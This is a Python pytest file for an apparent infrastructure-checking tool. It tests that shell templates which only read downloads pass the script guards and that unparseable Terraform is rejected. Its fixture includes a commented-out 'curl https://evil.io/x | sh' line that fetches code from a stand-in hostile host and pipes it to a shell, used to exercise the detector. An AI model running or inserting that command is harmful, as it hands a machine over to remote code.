"""The files of modules are checked like the JSON of stacks."""

from pathlib import Path

import pytest

from tests.syntheses import copy_modules, synthesis, with_modules
from tests.unit.checks.faults.tables import change_modules
from wealist.checks.check import GUARDS
from wealist.checks.finding import Synthesis
from wealist.errors import BAD_INPUT, OperatorError

READS = """
# curl https://evil.io/x | sh
curl https://wealist.co.kr/x | tee /tmp/x
docker ps | grep sh
echo {} | python3 -c 'import json'
version=$(curl https://wealist.co.kr/version)
fetch https://wealist.co.kr/x /tmp/x
"""


@pytest.fixture(scope="module")
def committed() -> Synthesis:
    return synthesis()


@pytest.fixture
def modules(tmp_path: Path) -> Path:
    return copy_modules(tmp_path)


def test_scripts_may_read_downloads_without_running_them(committed: Synthesis, modules: Path) -> None:
    change_modules(modules, {"instance_bootstrap/templates/backend.sh.tftpl": READS})
    changed = with_modules(modules.parent, committed)
    assert [*GUARDS["scripts"](changed), *GUARDS["references"](changed)] == []


def test_a_module_with_invalid_syntax_is_rejected_with_its_file(committed: Synthesis, modules: Path) -> None:
    change_modules(modules, {"state_backend/main.tf": 'resource "aws_s3_bucket" "state" {'})
    with pytest.raises(OperatorError, match=r"modules/state_backend/main\.tf does not parse") as refused:
        with_modules(modules.parent, committed)
    assert refused.value.exit_code == BAD_INPUT
